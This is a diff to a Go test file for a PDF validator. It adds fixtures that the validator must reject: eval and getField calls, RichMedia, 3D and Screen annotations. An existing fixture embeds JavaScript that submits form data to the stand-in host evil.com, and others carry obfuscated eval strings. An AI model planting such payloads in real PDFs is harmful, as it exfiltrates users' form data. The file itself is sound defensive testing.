@@ -1,6 +1,7 @@
 package pdfchecker
 
 import (
+	"errors"
 	"testing"
 )
 
@@ -87,6 +88,20 @@ func TestPDFValidator_Check(t *testing.T) {
 			errorType:   ErrJavaScriptDetected,
 			description: "PDF with getField should be rejected",
 		},
+		{
+			name:        "PDF with eval outside a /JS entry",
+			pdfContent:  "%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Text/Contents(eval(unescape('%75')))>>\nendobj\n",
+			expectError: true,
+			errorType:   ErrJavaScriptDetected,
+			description: "Check still flags eval calls on their own",
+		},
+		{
+			name:        "PDF with getField outside a /JS entry",
+			pdfContent:  "%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Text/Contents(getField('f').value)>>\nendobj\n",
+			expectError: true,
+			errorType:   ErrJavaScriptDetected,
+			description: "Check still flags getField calls on their own",
+		},
 		{
 			name:        "PDF with submitForm",
 			pdfContent:  "%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(this.submitForm('http://evil.com'))>>\nendobj\n",
@@ -226,6 +241,27 @@ func TestPDFValidator_Check(t *testing.T) {
 			expectError: true,
 			description: "PDF with file attachment should be rejected",
 		},
+		{
+			name:        "PDF with RichMedia annotation",
+			pdfContent:  "%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/RichMedia/RichMediaContent 2 0 R>>\nendobj\n",
+			expectError: true,
+			errorType:   ErrRichMediaDetected,
+			description: "PDF with embedded Flash should be rejected",
+		},
+		{
+			name:        "PDF with 3D annotation",
+			pdfContent:  "%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/3D/3DD 2 0 R>>\nendobj\n",
+			expectError: true,
+			errorType:   ErrRichMediaDetected,
+			description: "PDF with 3D content should be rejected",
+		},
+		{
+			name:        "PDF with Screen annotation and Rendition",
+			pdfContent:  "%PDF-1.4\n1 0 obj\n<</Type/Annot/Subtype/Screen/A<</S/Rendition/OP 0>>>>\nendobj\n",
+			expectError: true,
+			errorType:   ErrRichMediaDetected,
+			description: "PDF with video playback should be rejected",
+		},
 		{
 			name:        "Empty PDF content",
 			pdfContent:  "",
@@ -260,7 +296,7 @@ func TestPDFValidator_Check(t *testing.T) {
 				}
 
 				// Check specific error type if provided
-				if tt.errorType != nil && err != tt.errorType {
+				if tt.errorType != nil && !errors.Is(err, tt.errorType) {
 					t.Logf("Expected error type %v, got %v for test '%s'", tt.errorType, err, tt.name)
 					// Don't fail here as different error types might still indicate proper detection
 				}